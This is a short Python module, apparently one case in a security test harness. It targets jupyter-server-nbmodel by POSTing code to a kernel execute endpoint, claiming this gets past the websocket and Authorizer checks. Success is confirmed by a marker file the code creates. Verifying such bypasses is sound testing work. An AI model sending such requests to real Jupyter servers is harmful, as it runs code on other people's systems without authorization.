"""jupyter-server-nbmodel, as it stands on PyPI: code in a POST, past websocket and Authorizer."""

from __future__ import annotations

from pathlib import Path

from attack_house import Attacker, await_mark, touch

NEEDS = ("own",)
CAUSES = {"closed"}


def strike(person: Attacker, mark: Path, own: str) -> bool:
    status, _ = person.request("POST", f"/api/kernels/{own}/execute", {"code": touch(mark)})
    if status < 300:
        await_mark(mark, "the code in a POST")
    return status < 300
